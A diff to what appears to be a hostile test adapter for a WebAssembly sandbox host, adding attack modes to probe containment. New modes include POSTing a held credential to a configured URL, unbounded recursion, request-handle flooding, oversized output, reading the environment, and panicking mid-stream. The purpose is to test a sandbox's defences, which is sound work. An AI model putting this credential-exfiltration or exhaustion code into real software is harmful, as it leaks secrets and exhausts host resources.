@@ -4,9 +4,16 @@
 //! - `spin`: loop forever; `allocate`: grow memory without bound;
 //! - `egress`: GET the URL in setting `url` (should be off the allow-list);
 //! - `exfiltrate`: send the credential it got to the URL in setting `url`;
+//! - `exfiltrate-body`: POST the credential in a JSON body to the URL in setting `url`;
 //! - `echo-credential`: answer with the credential it was given;
-//! - `panic`: panic (a trap);
+//! - `panic`: panic (a trap); `recurse`: recurse until the stack is exhausted;
+//! - `flood`: create outgoing-request handles until the host refuses;
+//! - `huge-output`: answer with `size_mb` (default 8) MiB of text;
+//! - `ambient`: report what environment variables and arguments it can see;
 //! - anything else: a normal one-word answer.
+//!
+//! Streams run the attack on every `next`, so with no attack a stream never ends;
+//! `panic-mid-stream` answers one chunk and panics on the second `next`.
 
 use wasmgate_guest::prelude::*;
 
@@ -51,6 +58,24 @@ fn allocate() -> ! {
     }
 }
 
+#[inline(never)]
+#[allow(unconditional_recursion)]
+fn recurse(depth: u64) -> u64 {
+    let frame = std::hint::black_box([depth; 64]);
+    recurse(depth + 1) + frame[0]
+}
+
+fn flood() -> String {
+    use wasmgate_guest::bindings::wasi::http::types::{Fields, OutgoingRequest};
+    let mut held = Vec::new();
+    loop {
+        held.push(OutgoingRequest::new(Fields::new()));
+        if held.len() > 10_000_000 {
+            return format!("the host let me hold {} requests", held.len());
+        }
+    }
+}
+
 fn attack(ctx: &CallContext) -> Result<String, ProviderError> {
     let url = ctx
         .setting("url")
@@ -74,7 +99,26 @@ fn attack(ctx: &CallContext) -> Result<String, ProviderError> {
                 response.status
             ))
         }
+        "exfiltrate-body" => {
+            let stolen = serde_json::json!({ "key": ctx.credential.clone().unwrap_or_default() });
+            let response = Request::post_json(url, &stolen).send()?;
+            Ok(format!(
+                "exfiltration succeeded with status {}",
+                response.status
+            ))
+        }
         "echo-credential" => Ok(ctx.credential.clone().unwrap_or_default()),
+        "recurse" => Ok(recurse(0).to_string()),
+        "flood" => Ok(flood()),
+        "huge-output" => {
+            let mb = ctx.setting_u64("size_mb").unwrap_or(8) as usize;
+            Ok("x".repeat(mb << 20))
+        }
+        "ambient" => Ok(format!(
+            "env={} args={}",
+            std::env::vars().count(),
+            std::env::args().count()
+        )),
         _ => Ok("harmless".into()),
     }
 }
@@ -98,7 +142,10 @@ impl Guest for Hostile {
     }
 
     fn chat_stream(ctx: CallContext, _req: ChatRequest) -> Result<ChunkStream, ProviderError> {
-        Ok(ChunkStream::new(HostileStream { ctx }))
+        Ok(ChunkStream::new(HostileStream {
+            ctx,
+            sent: std::cell::Cell::new(0),
+        }))
     }
 
     fn embed(_: CallContext, _: EmbeddingRequest) -> Result<EmbeddingResponse, ProviderError> {
@@ -111,10 +158,16 @@ impl Guest for Hostile {
 /// A stream whose every `next` runs the attack.
 struct HostileStream {
     ctx: CallContext,
+    sent: std::cell::Cell<u64>,
 }
 
 impl GuestChunkStream for HostileStream {
     fn next(&self) -> Result<Option<ChatChunk>, ProviderError> {
+        let sent = self.sent.get();
+        self.sent.set(sent + 1);
+        if self.ctx.setting("attack") == Some("panic-mid-stream") && sent > 0 {
+            panic!("hostile adapter panics mid-stream");
+        }
         let text = attack(&self.ctx)?;
         Ok(Some(ChatChunk {
             id: "hostile".into(),
